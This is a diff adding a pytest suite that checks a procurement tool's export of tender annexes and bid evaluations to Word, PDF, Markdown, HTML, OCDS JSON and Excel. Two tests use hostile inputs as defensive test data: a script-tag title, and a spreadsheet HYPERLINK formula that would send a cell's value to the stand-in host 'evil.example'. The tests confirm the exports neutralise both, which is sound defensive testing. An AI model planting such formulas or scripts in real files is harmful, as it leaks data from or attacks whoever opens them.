@@ -1,0 +1,503 @@
+"""The tender annex and the bid evaluation as documents: Word with real headings and tables (that LibreOffice
+opens), Markdown, HTML, JSON, an OCDS 1.1 release valid against the core schema and its extensions, and an
+XLSX report whose texts stay texts."""
+
+from __future__ import annotations
+
+import copy
+import datetime as dt
+import io
+import json
+import re
+import shutil
+import subprocess
+from pathlib import Path
+
+import jsonschema
+import pytest
+from docx import Document
+from openpyxl import load_workbook
+from pypdf import PdfReader
+
+from hrdd.domain.tender import build_tender, evaluate_bids, get_tender_framework
+from hrdd.tenders import documents
+
+REPO = Path(__file__).resolve().parents[2]
+DEMO_BIDS = REPO / "hrdd" / "demo_data" / "bids-scenario-2.json"
+OCDS = Path(__file__).resolve().parents[3] / "shared" / "reference" / "ocds"
+OCDS_EXTENSIONS = (
+    "ocds_sustainability_extension",
+    "ocds_awardCriteria_extension",
+    "ocds_selectionCriteria_extension",
+    "ocds_otherRequirements_extension",
+)
+ALL_CRITERIA = ("LABEL", "SC1", "SC2", "AC1", "AC2", "AC3", "AC4", "AC6", "AC7", "CC1", "CC2", "CC3", "CC4")
+SCENARIOS = {
+    1: ("LABEL", "AC1", "AC2", "CC1"),
+    2: ("LABEL", "SC1", "AC3", "AC4", "CC2", "CC3"),
+    3: ("LABEL", "SC1", "SC2", "AC6", "AC7", "CC2", "CC3", "CC4"),
+}
+AWARDS = {1: ("AC1", "AC2"), 2: ("AC3", "AC4"), 3: ("AC6", "AC7")}
+SELECTION = {1: (), 2: ("SC1",), 3: ("SC1", "SC2")}
+CLAUSES = {1: ("CC1",), 2: ("CC2", "CC3"), 3: ("CC2", "CC3", "CC4")}
+GOAL = "social.humanRightsInSupplyChains"
+
+
+def annex(scenario, **kwargs):
+    return build_tender(scenario=scenario, framework=get_tender_framework(), **kwargs)
+
+
+def demo_request():
+    return json.loads(DEMO_BIDS.read_text(encoding="utf-8"))
+
+
+def demo_evaluation(request=None):
+    return evaluate_bids(request or demo_request(), get_tender_framework())
+
+
+def docx_text(document) -> str:
+    parts = [p.text for p in document.paragraphs]
+    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
+    return "\n".join(parts)
+
+
+def ids_in(text: str) -> set[str]:
+    """The criterion ids a text names, as whole words."""
+    return {c for c in ALL_CRITERIA if re.search(rf"\b{c}\b", text)}
+
+
+# DOCX
+
+
+@pytest.mark.parametrize("scenario", [1, 2, 3])
+def test_the_annex_docx_has_real_headings_for_every_criterion_and_tables(scenario):
+    # when
+    document = Document(io.BytesIO(documents.annex_docx(annex(scenario), title="Notebooks 2027")))
+
+    # then
+    headings = {
+        level: [p.text for p in document.paragraphs if p.style.name == f"Heading {level}"]
+        for level in (1, 2, 3)
+    }
+    assert headings[1] == ["Notebooks 2027"]
+    assert "Award criteria" in headings[2]
+    assert "Contract clauses (performance conditions)" in headings[2]
+    assert ("Selection criteria" in headings[2]) is bool(SELECTION[scenario])
+    assert [h.split()[0] for h in headings[3]] == list(SCENARIOS[scenario])
+    for criterion in AWARDS[scenario]:
+        assert any(h.startswith(criterion) and "(weight 20)" in h for h in headings[3])
+    # one table per criterion and the weighting
+    assert len(document.tables) == len(SCENARIOS[scenario]) + 1
+    weighting = [[c.text for c in row.cells] for row in document.tables[-1].rows]
+    assert weighting == [["Criterion", "Weight"], ["price", "60"]] + [[c, "20"] for c in AWARDS[scenario]]
+    text = docx_text(document)
+    assert "Legal basis" in text
+    assert "Directive 2014/24/EU Article 67" in text
+    assert ids_in(text) == set(SCENARIOS[scenario])
+
+
+def test_the_months_of_cc1_appear_in_the_docx():
+    # when
+    document = Document(io.BytesIO(documents.annex_docx(annex(1, months=7))))
+
+    # then
+    text = docx_text(document)
+    assert "no later than 7 months after the award" in text
+    assert "(7 months after award, and before delivery)" in text  # the timeliness KPI
+    assert "{months}" not in text
+
+
+def test_without_the_label_the_docx_has_no_label_section():
+    # when
+    document = Document(io.BytesIO(documents.annex_docx(annex(2, require_label=False))))
+
+    # then
+    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
+    assert "Baseline: certified products" not in headings
+    assert not any(h.startswith("LABEL") for h in headings)
+
+
+def test_the_evaluation_docx_has_the_ranking_and_each_bid_with_its_reasons():
+    # when
+    document = Document(io.BytesIO(documents.evaluation_docx(demo_evaluation(), title="Evaluation")))
+
+    # then
+    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
+    assert headings == [
+        "Ranking",
+        "Lumen Computers",
+        "Civic IT Reseller",
+        "Budget Office Supplies",
+        "Nordbyte Systems",
+    ]
+    ranking = [[c.text for c in row.cells] for row in document.tables[0].rows]
+    assert ranking[0] == ["Rank", "Bidder", "Price", "Total", "Admitted"]
+    assert [row[:2] for row in ranking[1:]] == [
+        ["1", "Lumen Computers"],
+        ["2", "Civic IT Reseller"],
+        ["—", "Budget Office Supplies"],
+        ["—", "Nordbyte Systems"],
+    ]
+    assert ranking[3][2] == "255000 ⚠"  # possibly abnormally low
+    text = docx_text(document)
+    assert "SC1 not met" in text
+    assert "LABEL not met: no label given" in text
+    assert "possibly abnormally low" in text
+
+
+# PDF through LibreOffice
+
+
+def _libreoffice() -> str | None:
+    return shutil.which("libreoffice") or shutil.which("soffice")
+
+
+@pytest.fixture(scope="module")
+def pdfs(tmp_path_factory):
+    """The three annexes and an evaluation report, converted to PDF by LibreOffice in one run."""
+    office = _libreoffice()
+    if office is None:
+        pytest.skip("LibreOffice is not installed (no libreoffice or soffice on PATH)")
+    tmp = tmp_path_factory.mktemp("office")
+    sources = []
+    for scenario in (1, 2, 3):
+        path = tmp / f"annex-{scenario}.docx"
+        path.write_bytes(documents.annex_docx(annex(scenario)))
+        sources.append(path)
+    evaluation = tmp / "evaluation.docx"
+    evaluation.write_bytes(documents.evaluation_docx(demo_evaluation()))
+    sources.append(evaluation)
+    result = subprocess.run(  # noqa: S603 - LibreOffice on our own files
+        [
+            office,
+            f"-env:UserInstallation=file://{tmp}/lo",
+            "--headless",
+            "--convert-to",
+            "pdf",
+            "--outdir",
+            str(tmp),
+            *map(str, sources),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr[-2000:]
+    return tmp
+
+
+@pytest.mark.parametrize(
+    ("name", "criterion"),
+    [("annex-1", "AC1"), ("annex-2", "SC1"), ("annex-3", "AC7"), ("evaluation", "AC3")],
+)
+def test_libreoffice_converts_the_docx_to_a_readable_pdf(pdfs, name, criterion):
+    # given
+    pdf = pdfs / f"{name}.pdf"
+    assert pdf.is_file(), sorted(p.name for p in pdfs.iterdir())
+
+    # when
+    reader = PdfReader(pdf)
+
+    # then
+    assert len(reader.pages) >= 1
+    text = "\n".join(page.extract_text() or "" for page in reader.pages)
+    assert criterion in text
+
+
+# Markdown, HTML, JSON
+
+
+@pytest.mark.parametrize("scenario", [1, 2, 3])
+@pytest.mark.parametrize("fmt", ["markdown", "html", "json"])
+def test_each_text_format_names_every_criterion_of_its_scenario_and_no_other(scenario, fmt):
+    # given
+    built = annex(scenario)
+
+    # when
+    text = {
+        "markdown": lambda: documents.annex_markdown(built, title="Notebooks"),
+        "html": lambda: documents.annex_html(built, title="Notebooks"),
+        "json": lambda: documents.annex_json(built),
+    }[fmt]()
+
+    # then
+    assert ids_in(text) == set(SCENARIOS[scenario])
+
+
+def test_scenario_1_has_no_selection_criterion():
+    # when
+    markdown = documents.annex_markdown(annex(1))
+
+    # then
+    assert "SC1" not in markdown
+    assert "Selection criteria" not in markdown
+
+
+def test_the_markdown_has_a_heading_per_criterion_with_its_weight():
+    # when
+    markdown = documents.annex_markdown(annex(2, weights={"AC3": 25}), title="Notebooks 2027")
+
+    # then
+    lines = markdown.splitlines()
+    assert lines[0] == "# Notebooks 2027"
+    headings = [line for line in lines if line.startswith("### ")]
+    assert [h.split()[1] for h in headings] == list(SCENARIOS[2])
+    assert "### AC3 Supply-chain transparency: products — weight 25" in headings
+    assert "### AC4 Action plan — weight 20" in headings
+    assert "Price weight: 60." in markdown
+
+
+def test_the_html_is_a_standalone_page_that_escapes_the_title():
+    # when
+    html = documents.annex_html(annex(3), title="<script>alert(1)</script>")
+
+    # then
+    assert html.lstrip().startswith("<!doctype html>")
+    assert "<script>alert(1)</script>" not in html
+    assert "&lt;script&gt;" in html
+    for criterion in SCENARIOS[3]:
+        assert f'id="criterion-{criterion}"' in html
+
+
+@pytest.mark.parametrize("scenario", [1, 2, 3])
+def test_the_json_lists_the_items_weights_and_parameters(scenario):
+    # when
+    data = json.loads(documents.annex_json(annex(scenario, months=5)))
+
+    # then
+    assert data["scenario"] == scenario
+    assert data["months"] == 5
+    assert [i["id"] for i in data["items"]] == list(SCENARIOS[scenario])
+    assert data["weights"] == {"price": 60.0} | dict.fromkeys(AWARDS[scenario], 20.0)
+    assert all(i["legal_basis"] for i in data["items"])
+
+
+# OCDS
+
+
+def merge_patch(target, patch):
+    """RFC 7386 JSON Merge Patch: objects merge recursively, null deletes, anything else replaces."""
+    if not isinstance(patch, dict):
+        return copy.deepcopy(patch)
+    result = dict(target) if isinstance(target, dict) else {}
+    for key, value in patch.items():
+        if value is None:
+            result.pop(key, None)
+        else:
+            result[key] = merge_patch(result.get(key), value)
+    return result
+
+
+@pytest.fixture(scope="module")
+def ocds_schema():
+    """The OCDS 1.1 release schema with the four extensions applied as JSON Merge Patches."""
+    if not OCDS.is_dir():
+        pytest.skip(f"the OCDS schemas are absent ({OCDS})")
+    schema = json.loads((OCDS / "release-schema.json").read_text(encoding="utf-8"))
+    for extension in OCDS_EXTENSIONS:
+        patch = json.loads((OCDS / extension / "release-schema.json").read_text(encoding="utf-8"))
+        schema = merge_patch(schema, patch)
+    return schema
+
+
+def test_the_merge_patch_follows_rfc_7386():
+    # the examples of RFC 7386 section 3
+    assert merge_patch({"a": "b"}, {"a": "c"}) == {"a": "c"}
+    assert merge_patch({"a": "b"}, {"b": "c"}) == {"a": "b", "b": "c"}
+    assert merge_patch({"a": "b"}, {"a": None}) == {}
+    assert merge_patch({"a": {"b": "c"}}, {"a": {"b": "d", "c": None}}) == {"a": {"b": "d"}}
+    assert merge_patch({"a": [{"b": "c"}]}, {"a": [1]}) == {"a": [1]}
+    assert merge_patch(["a", "b"], ["c", "d"]) == ["c", "d"]
+    assert merge_patch({"a": "foo"}, "bar") == "bar"
+    assert merge_patch({"e": None}, {"a": 1}) == {"e": None, "a": 1}
+    assert merge_patch([1, 2], {"a": "b", "c": None}) == {"a": "b"}
+
+
+def test_the_patched_schema_has_the_extensions_fields(ocds_schema):
+    # then
+    tender = ocds_schema["definitions"]["Tender"]["properties"]
+    assert {"sustainability", "hasSustainability", "selectionCriteria", "otherRequirements"} <= set(tender)
+    assert "criteria" in ocds_schema["definitions"]["SelectionCriteria"]["properties"]
+    assert "AwardCriteria" in ocds_schema["definitions"]
+
+
+def validate(schema, instance):
+    validator = jsonschema.Draft4Validator(schema, format_checker=jsonschema.FormatChecker())
+    errors = sorted(validator.iter_errors(instance), key=lambda e: list(e.absolute_path))
+    assert not errors, "\n".join(f"{list(e.absolute_path)}: {e.message}" for e in errors)
+
+
+@pytest.mark.parametrize("scenario", [1, 2, 3])
+def test_the_ocds_release_is_valid_against_the_core_schema_and_the_extensions(ocds_schema, scenario):
+    # when
+    release = documents.annex_ocds(
+        annex(scenario), title="Notebooks 2027", tender_id="t-1", buyer="Municipality of Testville"
+    )
+
+    # then
+    validate(ocds_schema, release)
+    # the core schema knows no lots: check the lot's award criteria against the extension's definition too
+    award_schema = {"$ref": "#/definitions/AwardCriteria", "definitions": ocds_schema["definitions"]}
+    validate(award_schema, release["tender"]["lots"][0]["awardCriteria"])
+    assert release["tender"]["lots"][0]["awardCriteria"]["criteria"]
+    assert release["ocid"] == "ocds-hrdd00-t-1"
+    # without rfc3339-validator the format checker passes any date-time: check it here
+    assert dt.datetime.strptime(release["date"], "%Y-%m-%dT%H:%M:%SZ")
+    assert release["buyer"] == {"id": "buyer-1", "name": "Municipality of Testville"}
+
+
+@pytest.mark.parametrize("scenario", [1, 2, 3])
+def test_the_ocds_tender_pursues_human_rights_in_supply_chains(scenario):
+    # when
+    tender = documents.annex_ocds(annex(scenario))["tender"]
+
+    # then
+    assert tender["hasSustainability"] is True
+    [sustainability] = tender["sustainability"]
+    assert sustainability["goal"] == GOAL
+    expected = ["technicalSpecifications"]
+    expected += ["selectionCriteria"] if SELECTION[scenario] else []
+    expected += ["awardCriteria", "contractPerformanceConditions"]
+    assert sustainability["strategies"] == expected
+
+
+@pytest.mark.parametrize("scenario", [2, 3])
+def test_the_ocds_tender_carries_the_selection_criteria(scenario):
+    # when
+    tender = documents.annex_ocds(annex(scenario))["tender"]
+
+    # then
+    criteria = tender["selectionCriteria"]["criteria"]
+    assert [c["description"].split()[0] for c in criteria] == list(SELECTION[scenario])
+    assert all(c["type"] == "technical" and c["appliesTo"] == ["supplier"] for c in criteria)
+    assert all(c["minimum"].startswith("Pass or fail") for c in criteria)
+
+
+def test_scenario_1_has_no_selection_criteria_in_ocds():
+    assert "selectionCriteria" not in documents.annex_ocds(annex(1))["tender"]
+
+
+@pytest.mark.parametrize("scenario", [1, 2, 3])
+def test_the_ocds_award_criteria_carry_the_weights(scenario):
+    # given
+    first, second = AWARDS[scenario]
+
+    # when
+    tender = documents.annex_ocds(annex(scenario, weights={"price": 55, first: 30, second: 15}))["tender"]
+
+    # then
+    criteria = tender["lots"][0]["awardCriteria"]["criteria"]
+    assert [(c["type"], c["name"].split()[0]) for c in criteria] == [
+        ("price", "Price"),
+        ("quality", first),
+        ("quality", second),
+    ]
+    assert [c["numbers"] for c in criteria] == [
+        [{"number": 55.0, "weight": "pointsExact"}],
+        [{"number": 30.0, "weight": "pointsExact"}],
+        [{"number": 15.0, "weight": "pointsExact"}],
+    ]
+    assert tender["awardCriteria"] == "ratedCriteria"
+
+
+@pytest.mark.parametrize("scenario", [1, 2, 3])
+def test_the_ocds_clauses_are_reporting_milestones(scenario):
+    # when
+    tender = documents.annex_ocds(annex(scenario, months=8))["tender"]
+
+    # then
+    reporting = [m for m in tender["milestones"] if m["type"] == "reporting"]
+    assert [m["id"] for m in reporting] == list(CLAUSES[scenario])
+    assert all(m["description"] and m["title"] for m in reporting)
+    if scenario == 1:
+        assert "no later than 8 months" in reporting[0]["description"]
+
+
+def test_without_the_label_the_ocds_release_has_no_technical_specification(ocds_schema):
+    # when
+    release = documents.annex_ocds(annex(2, require_label=False))
+
+    # then
+    validate(ocds_schema, release)
+    tender = release["tender"]
+    assert "technicalSpecifications" not in tender["sustainability"][0]["strategies"]
+    assert "LABEL" not in [m["id"] for m in tender["milestones"]]
+
+
+# XLSX
+
+
+def test_the_evaluation_xlsx_has_bids_reasons_and_weights():
+    # when
+    workbook = load_workbook(io.BytesIO(documents.evaluation_xlsx(demo_evaluation())))
+
+    # then
+    assert workbook.sheetnames == ["Bids", "Reasons", "Weights"]
+    rows = list(workbook["Bids"].iter_rows(values_only=True))
+    header, bids = rows[0], rows[1:]
+    assert header[:6] == ("rank", "bidder", "price", "admitted", "total", "abnormally low")
+    assert len(bids) == 4
+    assert [(b[0], b[1]) for b in bids] == [
+        (1, "Lumen Computers"),
+        (2, "Civic IT Reseller"),
+        (None, "Budget Office Supplies"),
+        (None, "Nordbyte Systems"),
+    ]
+    budget = dict(zip(header, bids[2], strict=True))
+    assert budget["admitted"] is False
+    assert budget["abnormally low"] is True
+    reasons = list(workbook["Reasons"].iter_rows(values_only=True))
+    assert reasons[0] == ("bidder", "criterion", "reason")
+    assert {r[0] for r in reasons[1:]} == {
+        "Lumen Computers",
+        "Civic IT Reseller",
+        "Budget Office Supplies",
+        "Nordbyte Systems",
+    }
+    assert any(r[1] == "AC4" and "action(s) with a justification" in r[2] for r in reasons[1:])
+    weights = {r[0]: r[1] for r in workbook["Weights"].iter_rows(min_row=2, values_only=True) if r[0]}
+    assert weights["price"] == 60
+    assert weights["AC3"] == 20
+    assert weights["AC4"] == 20
+    assert weights["scenario"] == 2
+
+
+def test_a_bidder_named_like_a_formula_stays_text_in_the_xlsx():
+    # given
+    request = demo_request()
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    request["bids"][0]["bidder"] = formula
+
+    # when
+    workbook = load_workbook(io.BytesIO(documents.evaluation_xlsx(demo_evaluation(request))))
+
+    # then
+    cells = [
+        cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value == formula
+    ]
+    assert len(cells) >= 2  # in Bids and in Reasons
+    assert all(cell.data_type == "s" for cell in cells)
+
+
+def test_prices_of_a_million_and_more_are_shown_exactly_in_the_evaluation_docx():
+    # given: ICT tenders often exceed a million
+    request = {
+        "scenario": 1,
+        "weights": {"price": 60, "AC1": 20, "AC2": 20},
+        "require_label": False,
+        "bids": [{"bidder": "Alpha", "price": 1234567}, {"bidder": "Beta", "price": 1300000}],
+    }
+
+    # when
+    document = Document(io.BytesIO(documents.evaluation_docx(demo_evaluation(request))))
+
+    # then: neither rounded to six digits nor in scientific notation
+    ranking = [[c.text for c in row.cells] for row in document.tables[0].rows]
+    assert [row[:3] for row in ranking[1:]] == [["1", "Alpha", "1234567"], ["2", "Beta", "1300000"]]
+    reasons = {row.cells[0].text: row.cells[3].text for row in document.tables[1].rows}
+    assert reasons["price"] == "60 x lowest admitted price 1234567 / 1234567"
